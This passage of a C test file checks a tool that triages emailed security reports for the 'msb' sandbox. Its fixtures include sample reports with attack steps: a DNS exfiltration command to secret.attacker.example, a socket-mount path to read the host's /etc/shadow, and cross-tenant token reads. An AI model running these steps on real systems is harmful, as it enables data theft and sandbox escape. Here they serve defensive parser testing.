	"Ce n'est pas une faille de msb lui-même : le greffon tiers monte tout le dossier personnel.\n",
	"Merci de ne pas clore le dossier : ce n'était pas un bug de msb-jupyter mais de msb.\n",
	"No cerrar el caso, por favor: no era un fallo del proxy, la suma difiere sin él.\n",
	("Vous pouvez clore le dossier pour le port : ce n'était pas une faille de msb.\n"
	 "L'autre problème reste valable, l'archive du miroir diffère toujours.\n"),
	"Bitte die Meldung nicht schließen, es war keine Lücke in unserem Proxy.\n",
	/* a correction that keeps the report */
	"Petite correction : ce n'était pas la version 0.8.5 mais 0.8.6, le dossier reste ouvert.\n",
};

static void
test_revise_withdrawal(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *report =
		PROSE "$ curl -sO https://mirror.example/msb-0.8.6.tar.gz\n$ sha256sum msb-0.8.6.tar.gz\n"
		"4b1d0c0ffee  msb-0.8.6.tar.gz\n\nmsb 0.8.6 on Debian 12.\n";

	for (gsize i = 0; i < G_N_ELEMENTS(withdrawals); i++) {
		g_autofree char *body = g_strconcat(withdrawals[i], WD_QUOTE, NULL);
		g_autoptr(StAnalysis) first = analyse(rules, "Release tarball on the mirror is not the signed one",
						      report, NULL);
		st_classify(rules, first->msg, NULL, first);
		g_autoptr(StAnalysis) r = analyse(rules, WD_SUBJECT, body, NULL);
		st_classify(rules, r->msg, NULL, r);
		g_test_message("withdrawal %" G_GSIZE_FORMAT, i);
		if (!r->retracts[ST_CHECK_DESCRIPTION]) {
			FAIL("withdrawal %zu: not read as one", i);
			continue;
		}
		g_assert_false(r->check[ST_CHECK_DESCRIPTION]);
		g_assert_null(r->klass);
		g_assert_null(r->component);
		g_assert_nonnull(first->klass);
		g_assert_nonnull(first->component);
		st_analysis_merge(first, r);
		g_assert_false(first->check[ST_CHECK_DESCRIPTION]);
		g_assert_false(first->check[ST_CHECK_POC]);
		g_assert_false(first->check[ST_CHECK_LOGS]);
		g_assert_null(first->klass);
		g_assert_null(first->component);
		g_assert_cmpuint(first->out_of_scope->len, ==, 0);
		for (int c = 0; c < ST_CHECK_N; c++)
			g_assert_false(first->check_na[c]);
		g_assert_cmpstr(first->version, ==, "0.8.6");
		g_assert_cmpstr(first->distro, ==, "Debian 12");
	}
	for (gsize i = 0; i < G_N_ELEMENTS(not_withdrawals); i++) {
		g_autoptr(StAnalysis) r = analyse(rules, WD_SUBJECT, not_withdrawals[i], NULL);
		if (r->retracts[ST_CHECK_DESCRIPTION])
			FAIL("not a withdrawal %zu: read as one (%s)", i, r->retracts_evidence);
	}
}

static const struct {
	const char *subject, *body;
	gboolean exploited;
} exploits[] = {
	{ "Sandbox escape (exploited in the wild)", "details below", TRUE },
	{ NULL, "This is being actively exploited against our customers.", TRUE },
	{ NULL, "Because we found it being used against us, please treat this as exploited in the wild.", TRUE },
	{ NULL, "We have seen active exploitation since Monday.", TRUE },
	{ NULL, "Attackers are actively exploiting this against CI hosts.", TRUE },
	{ NULL, "Our SOC observed this in the wild last week.", TRUE },
	{ NULL, "I am not aware of any exploitation in the wild.", FALSE },
	{ NULL, "There is no evidence this has been exploited in the wild.", FALSE },
	{ NULL, "If a vulnerability is being actively exploited in the wild, we'll prioritize the fix.", FALSE },
	{ NULL, "I don't think it is exploited in the wild yet.", FALSE },
	{ NULL, "The bug could be exploited by any guest.", FALSE },
	/* round 36: the writer's organisation under attack now */
	{ NULL, "We believe someone is actively abusing a flaw in the cloud against our organisation right now.", TRUE },
	{ "URGENT: revoked key still accepted, being used against us", "details below", TRUE },
	{ NULL, "A guest could be using it against us if the key leaked.", FALSE },
	{ NULL, "Could this key be used against us if it leaked?", FALSE },
	/* a question is no claim; a claim next to a question still counts */
	{ NULL, "2. Are you aware of any vulnerabilities in agent sandboxes being exploited\n   in the wild?", FALSE },
	{ NULL, "Is this being exploited anywhere that you know of?", FALSE },
	{ NULL, "This is being actively exploited against our customers. Can you patch it today?", TRUE },
};

static void
test_exploited(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(exploits); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, exploits[i].subject, exploits[i].body, NULL);
		if (a->exploited != exploits[i].exploited)
			FAIL("exploited case %zu: got %d", i, a->exploited);
		if (a->exploited)
			g_assert_nonnull(a->exploited_evidence);
	}
}

/* Hostile text: long lines, many lines, NUL-free binary-ish noise: bounded
 * time, no crash. */
static void
test_hostile(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autoptr(GString) big = g_string_new(NULL);

	for (int i = 0; i < 20000; i++)
		g_string_append(big, "  $ msb run x -- sh -c 'a' \\\n");
	g_string_append_c(big, '\n');
	for (int i = 0; i < 200000; i++)
		g_string_append_c(big, "ab 1.2.3 msb\t"[i % 13]);
	g_string_append_c(big, '\n');
	for (int i = 0; i < 10000; i++)  /* thousands of vetoed candidates */
		g_string_append(big, "We could not reproduce on Fedora 40, kernel 6.8. ");
	g_string_append_c(big, '\n');
	for (int i = 0; i < 50000; i++)
		g_string_append(big, "msb ");
	gint64 t0 = g_get_monotonic_time();
	g_autoptr(StAnalysis) a = analyse(rules, NULL, big->str, NULL);
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 10 * G_USEC_PER_SEC);
	g_assert_true(a->check[ST_CHECK_POC]);
}

/* ------------------------------------------------------------ pdf */

/* A one-page PDF whose page content is CONTENT, Flate-compressed when
 * DEFLATE, with one font stream (binary, /Subtype) that must be skipped. */
static GBytes *
make_pdf(const char *content, gboolean deflate)
{
	g_autoptr(GBytes) body = g_bytes_new(content, strlen(content));
	if (deflate) {
		g_autoptr(GZlibCompressor) z = g_zlib_compressor_new(G_ZLIB_COMPRESSOR_FORMAT_ZLIB, 6);
		g_autoptr(GOutputStream) mem = g_memory_output_stream_new_resizable();
		g_autoptr(GOutputStream) out = g_converter_output_stream_new(mem, G_CONVERTER(z));
		g_assert_true(g_output_stream_write_all(out, content, strlen(content), NULL, NULL, NULL));
		g_assert_true(g_output_stream_close(out, NULL, NULL));
		g_bytes_unref(body);
		body = g_memory_output_stream_steal_as_bytes(G_MEMORY_OUTPUT_STREAM(mem));
	}
	GByteArray *pdf = g_byte_array_new();
	const char *head = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
		"4 0 obj\n<< /Length 12 /Length1 12 /Subtype /Type1C >>\nstream\n"
		"(Tj) Tj BT\x01\x02\nendstream\nendobj\n";
	g_byte_array_append(pdf, (const guint8 *)head, strlen(head));
	g_autofree char *dict = g_strdup_printf("5 0 obj\n<< /Length %zu%s >>\nstream\n",
						g_bytes_get_size(body), deflate ? " /Filter /FlateDecode" : "");
	g_byte_array_append(pdf, (const guint8 *)dict, strlen(dict));
	g_byte_array_append(pdf, g_bytes_get_data(body, NULL), g_bytes_get_size(body));
	const char *tail = "\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
	g_byte_array_append(pdf, (const guint8 *)tail, strlen(tail));
	return g_byte_array_free_to_bytes(pdf);
}

/* The text a PDF shows: Tj, TJ with a word gap, ' and ", escapes, octal
 * and hex strings, new lines from Td and T*; the same through FlateDecode;
 * fonts skipped; glyph-id strings, a non-PDF and a torn PDF give nothing. */
static void
test_pdf(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *content =
		"BT /F1 10 Tf 50 780 Td 13 TL\n"
		"(Version: msb 0.8.1) Tj 0 -13 Td\n"
		"[(Host:)-250(Ubuntu 22.04.5 LTS) 20 (, kernel 6.5.0-45-generic)] TJ\n"
		"(Steps \\(as bob\\): cat /tmp/run.log) '\n"
		"T* <6f776e6564> Tj ( caf\\351) Tj\n"
		"1 0 0 1 50 600 Tm (<\\001\\002\\003\\004\\005>) Tj ET\n";
	const char *want =
		"Version: msb 0.8.1\n"
		"Host: Ubuntu 22.04.5 LTS, kernel 6.5.0-45-generic\n"
		"Steps (as bob): cat /tmp/run.log\n"
		"owned caf\xc3\xa9\n";

	for (int deflate = 0; deflate <= 1; deflate++) {
		g_autoptr(GBytes) pdf = make_pdf(content, deflate);
		g_autofree char *text = st_x_pdf_text(rules, pdf);
		g_assert_cmpstr(text, ==, want);

		/* torn anywhere: no crash, never more than the whole */
		gsize n = g_bytes_get_size(pdf);
		for (gsize cut = 0; cut < n; cut += 7) {
			g_autoptr(GBytes) torn = g_bytes_new_from_bytes(pdf, 0, cut);
			g_autofree char *t = st_x_pdf_text(rules, torn);
			g_assert_true(t == NULL || strlen(t) <= strlen(want) + 1);
		}
	}

	g_autoptr(GBytes) glyphs = make_pdf("BT <0001000200030004> Tj ET\n", TRUE);
	g_autofree char *none = st_x_pdf_text(rules, glyphs);
	g_assert_null(none);
	/* a deflate bomb (16 MiB of no text) stops at [extract.pdf]'s bounds */
	g_autofree char *zeros = g_strnfill(16 << 20, ' ');
	g_autoptr(GBytes) bomb = make_pdf(zeros, TRUE);
	gint64 t0 = g_get_monotonic_time();
	g_autofree char *none3 = st_x_pdf_text(rules, bomb);
	g_assert_null(none3);
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 2 * G_USEC_PER_SEC);
	g_autoptr(GBytes) notpdf = g_bytes_new_static("stream\n(hello) Tj\nendstream\n", 29);
	g_autofree char *none2 = st_x_pdf_text(rules, notpdf);
	g_assert_null(none2);
}

/* ------------------------------------------------------------ docx */

/* A .docx in memory (a zip written by libarchive) whose word/document.xml
 * holds BODY inside w:body, beside [Content_Types].xml; with PART NULL the
 * document part is left out. */
static GBytes *
make_docx(const char *part, const char *body)
{
	struct archive *w = archive_write_new();
	gsize cap = (1 << 20) + strlen(body) / 64, used = 0;
	char *buf = g_malloc0(cap);
	g_autofree char *doc = g_strconcat(
		"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
		"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
		"<w:body>", body, "</w:body></w:document>", NULL);
	const char *names[] = { "[Content_Types].xml", part };
	const char *data[] = { "<?xml version=\"1.0\"?><Types/>", doc };

	archive_write_set_format_zip(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (int i = 0; i < 2 && names[i]; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_size(e, (la_int64_t)strlen(data[i]));
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		g_assert_cmpint(archive_write_header(w, e), ==, ARCHIVE_OK);
		archive_write_data(w, data[i], strlen(data[i]));
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

#define WP(x) "<w:p><w:r><w:t xml:space=\"preserve\">" x "</w:t></w:r></w:p>"
#define WH(x) "<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>" x "</w:t></w:r></w:p>"

/* The text a .docx shows: a line per paragraph, runs joined, entities, a
 * tab and a break; a bold or Heading paragraph set apart by blank lines
 * (w:b w:val="0" is not bold); a non-zip, a zip without the document part
 * and a torn file give nothing or less; a bomb stops at the bounds; a
 * report sent only as report.docx is read for the checklist, the version,
 * the host and the credit. */
static void
test_docx(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *body =
		"<w:p><w:pPr><w:pStyle w:val=\"Title\"/></w:pPr><w:r><w:t>Report</w:t></w:r></w:p>"
		WP("Version: msb 0.8.1")
		"<w:p><w:r><w:t>Host:</w:t></w:r><w:r><w:tab/><w:t>Ubuntu &amp; co</w:t><w:br/>"
		"<w:t>kernel 6.5</w:t></w:r></w:p>"
		WH("Steps")
		WP("$ cat /tmp/x")
		"<w:p><w:r><w:rPr><w:b w:val=\"0\"/></w:rPr><w:t>not a heading</w:t></w:r></w:p>";
	const char *want =
		"Report\n\n"
		"Version: msb 0.8.1\n"
		"Host:\tUbuntu & co\nkernel 6.5\n"
		"\nSteps\n\n"
		"$ cat /tmp/x\n"
		"not a heading\n";
	g_autoptr(GBytes) docx = make_docx("word/document.xml", body);
	g_autofree char *text = st_x_docx_text(rules, docx);
	g_assert_cmpstr(text, ==, want);

	gsize n = g_bytes_get_size(docx);
	for (gsize cut = 0; cut < n; cut += 5) {
		g_autoptr(GBytes) torn = g_bytes_new_from_bytes(docx, 0, cut);
		g_autofree char *t = st_x_docx_text(rules, torn);
		g_assert_true(t == NULL || strlen(t) <= strlen(want));
	}
	g_autoptr(GBytes) nopart = make_docx(NULL, WP("hidden"));
	g_autofree char *none = st_x_docx_text(rules, nopart);
	g_assert_null(none);
	g_autoptr(GBytes) other = make_docx("word/styles.xml", WP("styles"));
	g_autofree char *none2 = st_x_docx_text(rules, other);
	g_assert_null(none2);
	g_autoptr(GBytes) notzip = g_bytes_new_static(WP("plain"), strlen(WP("plain")));
	g_autofree char *none3 = st_x_docx_text(rules, notzip);
	g_assert_null(none3);

	/* 16 MiB in one run (a deflate bomb): the part stops at max_xml_bytes,
	 * the unfinished run gives nothing, quickly */
	g_autofree char *many = g_strnfill(16 << 20, 'a');
	g_autofree char *bigbody = g_strconcat("<w:p><w:r><w:t>", many, "</w:t></w:r></w:p>", NULL);
	g_autoptr(GBytes) bomb = make_docx("word/document.xml", bigbody);
	gint64 t0 = g_get_monotonic_time();
	g_autofree char *cut = st_x_docx_text(rules, bomb);
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 2 * G_USEC_PER_SEC);
	g_assert_null(cut);
	/* 300 paragraphs of 1,000 characters: the text stops at max_text_bytes */
	g_autoptr(GString) paras = g_string_new(NULL);
	g_autofree char *kilo = g_strnfill(999, 'b');
	for (int i = 0; i < 300; i++)
		g_string_append_printf(paras, "<w:p><w:r><w:t>%s\xc3\xa9</w:t></w:r></w:p>", kilo);
	g_autoptr(GBytes) long_doc = make_docx("word/document.xml", paras->str);
	g_autofree char *capped = st_x_docx_text(rules, long_doc);
	gint64 max_text = st_rules_get_int(rules, "extract.docx", "max_text_bytes", 0);
	g_assert_nonnull(capped);
	g_assert_cmpint(max_text, >, 0);
	g_assert_cmpint((gint64)strlen(capped), <=, max_text);
	g_assert_cmpint((gint64)strlen(capped), >, max_text - 4);
	g_assert_true(g_utf8_validate(capped, -1, NULL));

	const char *report =
		WH("Summary")
		WP("The host-side file server looks file handles up by inode number only, so a process "
		   "in one sandbox opens and reads files of another sandbox's volume. This breaks the "
		   "isolation between sandboxes: one tenant reads another tenant's files.")
		WH("Environment")
		WP("$ msb --version") WP("msb 0.8.4")
		WP("PRETTY_NAME=&quot;Fedora Linux 41 (Workstation Edition)&quot;")
		WP("$ uname -r") WP("6.11.8-300.fc41.x86_64")
		WH("Steps")
		WP("$ msb run --name b --volume /tmp/b:/data alpine -- /data/fhopen 1835012")
		WP("opened handle ino=1835012 -&gt; fd 3") WP("TOPSECRET-A")
		WH("Credit")
		WP("Please credit Kenji Watanabe (https://kwatanabe.example) in the advisory.");
	g_autoptr(GBytes) rep = make_docx("word/document.xml", report);
	gsize rlen = 0;
	const char *rdata = g_bytes_get_data(rep, &rlen);
	const Att atts[] = {
		{ "microsandbox-report.docx",
		  "application/vnd.openxmlformats-officedocument.wordprocessingml.document", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, "security report", "Report attached.", atts);
	g_assert_true(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	g_assert_cmpstr(a->version, ==, "0.8.4");
	g_assert_cmpstr(a->kernel, ==, "6.11.8-300.fc41.x86_64");
	g_assert_cmpstr(a->credit_name, ==, "Kenji Watanabe");
	g_assert_cmpstr(a->credit_link, ==, "https://kwatanabe.example");
	/* the same document under a name that is no report's is not a report */
	const Att other_atts[] = {
		{ "invoice.docx", "application/octet-stream", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, "invoice", "Invoice attached.", other_atts);
	g_assert_false(b->check[ST_CHECK_DESCRIPTION]);
	g_assert_null(b->credit_name);
	/* ... unless the mail points to the attached document as the report */
	const Att named_atts[] = {
		{ "fs-inode-handles.docx", "application/octet-stream", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) c = analyse(rules, "file server",
					  "We found a problem, write-up attached as a Word document.", named_atts);
	g_assert_true(c->check[ST_CHECK_DESCRIPTION]);
	g_assert_cmpstr(c->credit_name, ==, "Kenji Watanabe");
}

/* A write-up sent as a text file under a body of one line or a pointer is
 * the report: read like the body for the checklist, the version and the
 * credit, whatever the file is called and in whatever language, and no
 * script to run.  A log, a long body's attachment, a body that says more
 * than the file stay what they were. */
static const char *const writeup_md =
	"# Sandboxes started from one template share a /tmp inode cache\n\n"
	"Marta Quiroga, Ostrava Labs\n\n"
	"## What happens\n\n"
	"When two sandboxes are created from the same template within a few seconds,\n"
	"the second one is given the page cache of the first one for its temporary\n"
	"directory. Files the first sandbox writes there can be read from the second\n"
	"sandbox, although the two belong to different customers of ours.\n\n"
	"## Impact\n\n"
	"Anything a customer keeps in /tmp for a moment (unpacked archives, tokens\n"
	"handed over by the orchestrator, build outputs) is readable by whoever gets\n"
	"the next sandbox from that template, with no privilege at all.\n\n"
	"## How to see it\n\n"
	"```\n$ msb run --name one --template base alpine -- sh -c 'echo TOKEN-1 > /tmp/x'\n"
	"$ msb run --name two --template base alpine -- cat /tmp/x\nTOKEN-1\n```\n\n"
	"## Environment\n\n"
	"- msb 0.9.2 on a Debian 12 host, installed from the release package\n\n"
	"## Credit\n\n"
	"If you list finders: Marta Quiroga (Ostrava Labs), a link is not needed.\n";

static const char *const writeup_es =
	"Resumen\n=======\n\n"
	"El demonio msbd deja abierto el socket de control con permisos de escritura\n"
	"para todos los usuarios del sistema, de modo que cualquier cuenta local puede\n"
	"pedirle que monte un directorio del anfitrión dentro de un sandbox propio y\n"
	"leer así archivos que pertenecen al usuario root del anfitrión.\n\n"
	"Pasos para reproducirlo\n=======================\n\n"
	"1. Con una cuenta sin privilegios, comprobar los permisos del socket.\n"
	"2. Enviar la petición de montaje con la ruta /etc del anfitrión.\n"
	"3. Leer /mnt/etc/shadow desde dentro del sandbox.\n\n"
	"    $ ls -l /run/msb/control.sock\n    srwxrwxrwx 1 root root 0 ago 12 10:02 /run/msb/control.sock\n\n"
	"Versión afectada: msb 0.9.4, en un portátil con Fedora 41.\n\n"
	"Si publican un aviso, por favor acredítenme como Lucía Benítez.\n";

static void
test_writeup_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	/* a Markdown write-up under one line that only greets and points */
	const Att md[] = { { "tmp-cache-between-tenants.md", "text/markdown", writeup_md, 0 },
			   { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) a = analyse(rules, "tmp shared between sandboxes",
					  "Hello, everything is in the notes I put in this mail. Marta", md);
	StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
	g_assert_true(att->document);
	g_assert_cmpint(att->role, !=, ST_ROLE_POC);
	g_assert_true(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	g_assert_cmpstr(a->version, ==, "0.9.2");
	g_assert_cmpstr(a->credit_name, ==, "Marta Quiroga (Ostrava Labs)");

	/* a plain .txt in Spanish under a one-line Spanish body */
	const Att es[] = { { "socket-msbd.txt", "text/plain; charset=utf-8", writeup_es, 0 },
			   { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) b = analyse(rules, "socket de control", "Hola, va el informe adjunto.", es);
	g_assert_true(((StAttachment *)g_ptr_array_index(b->msg->attachments, 0))->document);
	g_assert_true(b->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(b->check[ST_CHECK_POC]);
	g_assert_cmpstr(b->version, ==, "0.9.4");
	g_assert_cmpstr(b->credit_name, ==, "Lucía Benítez");

	/* the same text sent as application/octet-stream (a mailer that does
	 * not know .rst): read from its bytes and kept as the report's text */
	const Att raw[] = { { "bericht.rst", "application/octet-stream", writeup_es, 0 },
			    { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) c = analyse(rules, "socket", "Details siehe Anhang.", raw);
	StAttachment *catt = g_ptr_array_index(c->msg->attachments, 0);
	g_assert_true(catt->document);
	g_assert_nonnull(catt->text);
	g_assert_true(c->check[ST_CHECK_DESCRIPTION]);

	/* a body of a few paragraphs that points to the file, which says
	 * more: the file is the report; without the pointer it is not */
	const char *middle =
		"Hi team, we were testing templates for our hosting platform last week\n"
		"and noticed something odd between sandboxes of different customers.\n"
		"We have not looked at the code, so we do not know where it comes from.\n"
		"We stopped using templates in production until we hear from you.\n"
		"The person who found it is on holiday this week, so I am sending it.\n"
		"She asked me to say that she is happy to help with a fix or a test,\n"
		"and that you can write to her directly once she is back next Monday.\n";
	g_autofree char *pointing = g_strconcat(middle, "The full analysis is in the attached file.\n", NULL);
	g_autoptr(StAnalysis) d = analyse(rules, "templates", pointing, md);
	g_assert_true(((StAttachment *)g_ptr_array_index(d->msg->attachments, 0))->document);
	g_autoptr(StAnalysis) e = analyse(rules, "templates", middle, md);
	g_assert_false(((StAttachment *)g_ptr_array_index(e->msg->attachments, 0))->document);
	/* a firm's advisory named as what is attached (1293) */
	g_autofree char *advisory = g_strconcat(middle, "Please find enclosed our vulnerability advisory QX-2028-07.\n", NULL);
	g_autoptr(StAnalysis) adv = analyse(rules, "templates", advisory, md);
	g_assert_true(((StAttachment *)g_ptr_array_index(adv->msg->attachments, 0))->document);

	/* a log under a one-line body stays a log, by its name ... */
	const char *log =
		"2027-08-12T10:02:11Z INFO msbd: sandbox one started from template base\n"
		"2027-08-12T10:02:13Z INFO msbd: sandbox two started from template base\n"
		"2027-08-12T10:02:13Z WARN msbd: tmpfs cache reused for sandbox two\n";
	const Att logs[] = { { "msbd.log", "text/plain", log, 0 }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) f = analyse(rules, "log", "Log attached.", logs);
	StAttachment *fatt = g_ptr_array_index(f->msg->attachments, 0);
	g_assert_false(fatt->document);
	g_assert_cmpint(fatt->role, ==, ST_ROLE_LOG);
	/* ... and by its lines under any name: journal lines are no prose */
	const char *journal =
		"Aug 12 10:02:11 build-07 msbd[812]: sandbox one started from template base with 2 vCPUs\n"
		"Aug 12 10:02:13 build-07 msbd[812]: sandbox two started from template base with 2 vCPUs\n"
		"Aug 12 10:02:13 build-07 msbd[812]: reusing the tmpfs cache of sandbox one for sandbox two\n"
		"Aug 12 10:02:14 build-07 msbd[812]: sandbox two mounted its temporary directory read write\n"
		"Aug 12 10:02:19 build-07 msbd[812]: sandbox one stopped after the command exited normally\n"
		"Aug 12 10:02:21 build-07 msbd[812]: sandbox two stopped after the command exited normally\n"
		"Aug 12 10:02:22 build-07 msbd[812]: the tmpfs cache was released once both had stopped\n";
	const Att jl[] = { { "notes.txt", "text/plain", journal, 0 }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) g = analyse(rules, "log", "See the attached file.", jl);
	g_assert_false(((StAttachment *)g_ptr_array_index(g->msg->attachments, 0))->document);

	/* a long report of its own with another project's README attached:
	 * the README is no part of the report */
	const char *readme =
		"# tinyhttp\n\nA very small HTTP server written for teaching purposes only.\n\n"
		"It is not meant for production use and has never been audited by anyone.\n"
		"The server reads a configuration file and serves the files of one folder.\n"
		"Contributions are welcome, please open an issue before a pull request.\n"
		"The project is licensed under the terms of the MIT licence, see LICENSE.\n"
		"Thanks to everyone who sent patches over the years, you know who you are.\n";
	const Att rd[] = { { "README.md", "text/markdown", readme, 0 }, { NULL, NULL, NULL, 0 } };
	g_autofree char *long_body = g_strconcat(PROSE, PROSE,
		"Steps:\n\n    $ msb run --network none alpine -- nslookup secret.attacker.example\n\n"
		"The server we used to receive the queries is the one in the README attached.\n", NULL);
	g_autoptr(StAnalysis) h = analyse(rules, "dns", long_body, rd);
	g_assert_false(((StAttachment *)g_ptr_array_index(h->msg->attachments, 0))->document);
	g_assert_null(h->credit_name);
}

/* Every devset message: the extract fields agree with its label. */
static void
test_devset(void)
{
	const char *shared = g_getenv("ST_SHARED");
	if (shared == NULL) {
		g_test_skip("ST_SHARED not set");
		return;
	}
	g_autofree char *ldir = g_build_filename(shared, "devset", "labels", NULL);
	g_autoptr(GDir) d = g_dir_open(ldir, 0, NULL);
	if (d == NULL) {
		g_test_skip("no devset");
		return;
	}
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autoptr(StConfig) cfg = st_config_default();
	const char *n;
	guint files = 0, bad = 0;

	while ((n = g_dir_read_name(d)) != NULL) {
		if (!g_str_has_suffix(n, ".json"))
			continue;
		g_autofree char *lpath = g_build_filename(ldir, n, NULL);
		g_autoptr(JsonParser) jp = json_parser_new();
		g_assert_true(json_parser_load_from_file(jp, lpath, NULL));
		JsonObject *lab = json_node_get_object(json_parser_get_root(jp));
		if (!json_object_get_boolean_member(lab, "should_ack"))
			continue;
		g_autofree char *base = g_strndup(n, strlen(n) - 5);
		g_autofree char *mname = g_strconcat(base, ".eml", NULL);
		g_autofree char *mpath = g_build_filename(shared, "devset", "mail", mname, NULL);
		StMessage *msg = st_message_parse_file(mpath, cfg, NULL);
		g_assert_nonnull(msg);
		g_autoptr(StAnalysis) a = st_analysis_new();
		a->msg = msg;
		st_extract(rules, msg, NULL, a);
		files++;

		const char *want_v = json_object_get_null_member(lab, "version") ? NULL
			: json_object_get_string_member(lab, "version");
		if (g_strcmp0(want_v, a->version)) {
			g_test_message("%s: version %s want %s", base, a->version, want_v);
			bad++;
		}
		JsonObject *p = json_object_get_object_member(lab, "platform");
		const char *keys[] = { "os", "distro", "kernel", "macos_version", "chip" };
		const char *got[] = { a->os, a->distro, a->kernel, a->macos_version, a->chip };
		for (int k = 0; k < 5; k++) {
			const char *w = json_object_get_null_member(p, keys[k]) ? NULL
				: json_object_get_string_member(p, keys[k]);
			if ((w == NULL) != (got[k] == NULL) ||
			    (w && g_ascii_strcasecmp(w, got[k]) != 0)) {
				g_test_message("%s: %s %s want %s", base, keys[k], got[k], w);
				bad++;
			}
		}
		const char *items[] = { "has_description_impact", "has_poc", "has_logs" };
		StCheck c[] = { ST_CHECK_DESCRIPTION, ST_CHECK_POC, ST_CHECK_LOGS };
		for (int k = 0; k < 3; k++)
			if (json_object_get_boolean_member(lab, items[k]) != a->check[c[k]]) {
				g_test_message("%s: %s wrong", base, items[k]);
				bad++;
			}
		if (json_object_get_boolean_member(lab, "exploited_in_wild") != a->exploited) {
			g_test_message("%s: exploited wrong", base);
			bad++;
		}
		JsonNode *cr = json_object_get_member(lab, "credit");
		gboolean want_found = !JSON_NODE_HOLDS_NULL(cr);
		gboolean want_anon = JSON_NODE_HOLDS_VALUE(cr);
		if (want_found != a->credit_found || want_anon != a->credit_anonymous) {
			g_test_message("%s: credit found/anonymous wrong", base);
			bad++;
		} else if (JSON_NODE_HOLDS_OBJECT(cr)) {
			JsonObject *co = json_node_get_object(cr);
			const char *wl = json_object_get_null_member(co, "link") ? NULL
				: json_object_get_string_member(co, "link");
			if (g_strcmp0(json_object_get_string_member(co, "name"), a->credit_name) ||
			    g_strcmp0(wl, a->credit_link)) {
				g_test_message("%s: credit %s %s", base, a->credit_name, a->credit_link);
				bad++;
			}
		}
	}
	g_test_message("%u devset messages, %u wrong fields", files, bad);
	g_assert_cmpuint(files, >, 0);
	g_assert_cmpuint(bad, ==, 0);
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/extract/version", test_version);
	g_test_add_func("/extract/version-sdk", test_version_sdk);
	g_test_add_func("/extract/crash-report-utf16", test_crash_report_utf16);
	g_test_add_func("/extract/reject-self", test_reject_self);
	g_test_add_func("/extract/platform", test_platform);
	g_test_add_func("/extract/platform_fullwidth_evidence", test_platform_fullwidth_evidence);
	g_test_add_func("/extract/html_pre_poc", test_html_pre_poc);
	g_test_add_func("/extract/cover-note-version", test_cover_note_version);
	g_test_add_func("/extract/image-alt-platform", test_image_alt_platform);
	g_test_add_func("/extract/subject-platform", test_subject_platform);
	g_test_add_func("/extract/crash-report-facts", test_crash_report_facts);
	g_test_add_func("/extract/host-log-kernel", test_host_log_kernel);
	g_test_add_func("/extract/credit", test_credit);
	g_test_add_func("/extract/credit-answer", test_credit_answer);
	g_test_add_func("/extract/credit-own", test_credit_own);
	g_test_add_func("/extract/checklist", test_checklist);
	g_test_add_func("/extract/line-types", test_line_types);
	g_test_add_func("/extract/poc-observe-attached", test_poc_observe_attached);
	g_test_add_func("/extract/poc-in-attachment", test_poc_in_attachment);
	g_test_add_func("/extract/description-told", test_description_told);
	g_test_add_func("/extract/description-subject", test_description_subject);
	g_test_add_func("/extract/description-phone", test_description_phone);
	g_test_add_func("/extract/roles", test_roles);
	g_test_add_func("/extract/saved-output", test_saved_output);
	g_test_add_func("/extract/count-lines", test_count_lines);
	g_test_add_func("/extract/archive-roles", test_archive_roles);
	g_test_add_func("/extract/archive-logs", test_archive_logs);
	g_test_add_func("/extract/html-writeup", test_html_writeup);
	g_test_add_func("/extract/archive-notes", test_archive_notes);
	g_test_add_func("/extract/archive-description", test_archive_description);
	g_test_add_func("/extract/archive-credit", test_archive_credit);
	g_test_add_func("/extract/roles-not-working", test_roles_not_working);
	g_test_add_func("/extract/whole", test_extract_whole);
	g_test_add_func("/extract/quoted-ack", test_quoted_ack);
	g_test_add_func("/extract/reply-headers", test_reply_headers);
	g_test_add_func("/extract/credit-link-attached", test_credit_link_attached);
	g_test_add_func("/extract/quote-shared", test_quote_shared);
	g_test_add_func("/extract/reply-subject", test_reply_subject);
	g_test_add_func("/extract/revise-correction", test_revise_correction);
